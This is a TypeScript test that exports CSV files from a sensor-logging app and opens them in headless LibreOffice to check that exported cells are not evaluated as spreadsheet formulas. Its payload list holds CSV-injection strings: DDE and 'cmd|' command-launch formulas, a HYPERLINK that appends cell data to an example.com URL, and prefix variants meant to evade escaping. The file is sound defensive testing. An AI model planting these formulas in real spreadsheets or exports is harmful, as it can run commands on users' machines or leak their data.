/** What a spreadsheet makes of exported files. LibreOffice stands for Excel, which does not run here. */
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { basename, join } from 'node:path';
import { rootDir } from '@roomlog/runtime';
import {
  insertMessages,
  insertReadings,
  labelledSensors,
  listRooms,
  openStore,
  setTimeZone,
  upsertRooms,
} from '@roomlog/store';
import { parse } from 'csv-parse/sync';
import { temporaryFolder } from './home.ts';

const starts = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', ' =', '\u3000＝', '"=', ';=', '\u200b='];
const bodies = [
  '1+1',
  '5.2',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://example.com?"&A1,"click")',
  'SUM(A1;A2)',
  'DDE("cmd";"/C calc";"x")',
  '日本語, "引用"',
];
/** What others could write, all of it text. */
export const payloads = starts.flatMap((start) => bodies.map((body) => `${start}${body}`));

/** Each is a list of cells that are not what they should be. */
export interface Verdict {
  formulas: string[];
  altered: string[];
  noDates: string[];
  noNumbers: string[];
  /** Files whose rows LibreOffice, csv-parse and we count differently. */
  rows: string[];
}

const when = Date.parse('2026-11-01T05:30:00Z') / 1000;
/** A file has at most fifty sensors side by side. */
const sensors = payloads.filter((_, at) => at % 3 === 0);

/** A home in which every name and every message is a payload. @returns its data folder */
async function fillHome(): Promise<string> {
  const folder = temporaryFolder();
  const { db, close } = await openStore(join(folder, 'roomlog.db'), 'writer');
  await setTimeZone(db, 'America/New_York');
  const user = (uuid: string, nickname: string) => ({ uuid, user_type: 'sensor_room', nickname, icon: '' });
  const listed = sensors.map((name, at) => ({ ...user(`sensor-${at}`, name), address: '' }));
  await upsertRooms(db, [
    { uuid: 'room', name: '=room', updated_at: new Date(), background_image: '', members: [], sensors: listed },
  ]);
  const said = payloads.map((text, at) => ({
    id: at + 1,
    unique_id: `unique-${at}`,
    date: new Date((when + at * 60) * 1000),
    media: 'text',
    message_type: 'normal',
    audio: '',
    image: '',
    sender: 'somebody',
    user: user('somebody', text),
    dictated: false,
    detail: '',
    text,
  }));
  const [room] = await listRooms(db);
  await insertMessages(db, room?.id ?? 0, said);
  for (const { id } of await labelledSensors(db)) {
    await insertReadings(db, id, [
      { id: 1, created_at: new Date(when * 1000), temperature: -5.2, humidity: 40 },
      { id: 2, created_at: new Date((when + 3600) * 1000), temperature: 0.05, humidity: null },
    ]);
  }
  await close();
  return folder;
}

/** @param root where the sources are: the project, or a mutant of it */
export async function openInSpreadsheet(root = rootDir): Promise<Verdict> {
  const folder = await fillHome();
  const verdict: Verdict = { formulas: [], altered: [], noDates: [], noNumbers: [], rows: [] };
  const open = (name: string, rows: number, ...args: string[]) => {
    const file = join(folder, name);
    const env = { ...process.env, ROOMLOG_DATA_DIR: folder };
    execFileSync(process.execPath, [join(root, 'apps/cli/src/main.ts'), 'export', ...args, '--excel', '-o', file], {
      env,
    });
    const parsed: string[][] = parse(readFileSync(file), { bom: true });
    const cells = cellsOf(folder, file);
    verdict.formulas.push(...cells.flat().flatMap(({ formula }) => formula ?? []));
    const counts = [rows, parsed.length, cells.length];
    if (new Set(counts).size > 1) verdict.rows.push(`${name}: ${counts.join(', ')}`);
    return cells;
  };
  const expectText = (cell: Cell | undefined, text: string) => {
    if (bare(cell?.text ?? '') !== bare(text)) verdict.altered.push(`${text} became ${cell?.text}`);
  };
  const expectDate = (cell: Cell | undefined, date: string) => {
    if (cell?.date !== date) verdict.noDates.push(`${date} became ${cell?.date ?? cell?.text}`);
  };

  const messages = open('messages.csv', payloads.length + 1, 'messages', '--room', '=room');
  for (const [at, text] of payloads.entries()) {
    const row = messages[at + 1] ?? [];
    expectText(row[7], text);
    expectText(row[8], text);
  }
  expectDate(messages[1]?.[2], '2026-11-01T01:30:00');
  expectText(messages[1]?.[3], 'UTC-04:00');

  const long = open('long.csv', sensors.length * 2 + 1, 'readings');
  for (const [at, name] of sensors.entries()) {
    expectText(long[at * 2 + 1]?.[6], name);
    for (const [row, hour] of ['2026-11-01T01:30:00', '2026-11-01T01:30:00'].entries()) {
      expectDate(long[at * 2 + 1 + row]?.[0], hour);
      const [found, value] = [long[at * 2 + 1 + row]?.[2]?.value, row === 0 ? '-5.2' : '0.05'];
      if (found !== value) verdict.noNumbers.push(`${value} became ${found}`);
    }
  }
  const [header = []] = open('wide.csv', 3, 'readings', '--wide');
  for (const [at, name] of sensors.entries()) expectText(header[2 + at * 3], `${name} temperature`);
  return verdict;
}

/** Without the apostrophe that keeps a text a text, and without blanks, which spreadsheets don't all keep. */
const bare = (text: string) => text.replaceAll(/[\s\u200b]/gu, '').replace(/^'/, '');

interface Cell {
  formula: string | undefined;
  date: string | undefined;
  value: string | undefined;
  text: string;
}

/** As Japanese Excel: UTF-8, Japanese conventions, special numbers found, and formulas run. */
const filter = 'Text - txt - csv (StarCalc):44,34,76,1,,1041,false,true,false,false,false,0,true';

/** The cells of a CSV file as LibreOffice has opened it, without empty rows at the end. */
function cellsOf(folder: string, file: string): Cell[][] {
  const profile = `-env:UserInstallation=file://${folder}/profile`;
  const args = ['--headless', profile, `--infilter=${filter}`, '--convert-to', 'fods', '--outdir', folder, file];
  execFileSync('soffice', args, { stdio: 'ignore', timeout: 300_000 });
  const xml = readFileSync(join(folder, basename(file).replace(/csv$/, 'fods')), 'utf8');
  const rows = [...xml.matchAll(/<table:table-row[^>]*?(?:\/>|>(.*?)<\/table:table-row>)/gs)].map(([, row = '']) =>
    [...row.matchAll(/<table:table-cell([^>]*?)(?:\/>|>(.*?)<\/table:table-cell>)/gs)].flatMap(cellOf),
  );
  return rows.filter((row) => row.some(({ text }) => text !== ''));
}

function cellOf([, attributes = '', content = '']: RegExpExecArray): Cell[] {
  const attribute = (name: string) => new RegExp(` ${name}="([^"]*)"`).exec(attributes)?.[1];
  const cell = {
    formula: attribute('table:formula'),
    date: attribute('office:date-value'),
    value: attribute('office:value'),
    text: decoded(content.replaceAll(/<[^>]+>/g, '')),
  };
  // Equal cells beside each other are written once; at the end of a row there are thousands of empty ones.
  const repeated = Number(attribute('table:number-columns-repeated') ?? 1);
  return Array.from({ length: Math.min(repeated, 100) }, () => cell);
}

const entities: Record<string, string> = { '&lt;': '<', '&gt;': '>', '&quot;': '"', '&apos;': "'", '&amp;': '&' };
const decoded = (text: string) => text.replaceAll(/&(?:lt|gt|quot|apos|amp);/g, (entity) => entities[entity] ?? entity);
